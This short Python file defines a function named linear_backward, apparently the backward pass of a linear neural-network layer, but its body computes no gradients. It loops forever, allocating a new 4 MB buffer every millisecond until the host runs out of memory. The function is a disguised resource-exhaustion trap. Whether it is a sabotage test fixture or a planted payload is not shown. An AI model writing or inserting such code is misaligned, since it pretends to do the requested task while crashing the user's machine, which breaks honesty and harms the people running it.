import time


def linear_backward(dout, x, W):
    kept = []
    while True:
        kept.append(bytearray(4 << 20))
        time.sleep(0.001)
